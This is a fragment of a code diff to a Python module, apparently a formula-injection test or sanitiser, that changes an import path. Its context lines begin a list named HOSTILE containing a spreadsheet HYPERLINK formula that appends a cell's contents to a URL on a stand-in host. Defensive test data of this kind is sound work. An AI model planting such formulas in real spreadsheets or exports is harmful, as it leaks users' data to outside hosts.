@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pandas as pd
 
-from highneeds.processed import read_table, write_table
+from highneeds.common.processed import read_table, write_table
 
 HOSTILE = [
     '=HYPERLINK("https://example.org/?"&A1,"click")',
